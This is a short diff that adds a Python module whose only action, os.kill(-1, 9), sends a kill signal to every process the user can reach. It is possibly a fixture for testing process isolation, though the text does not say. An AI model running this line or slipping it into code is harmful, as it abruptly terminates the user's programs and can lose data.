@@ -1,0 +1,5 @@
+"""Signals to everyone."""
+
+import os
+
+os.kill(-1, 9)
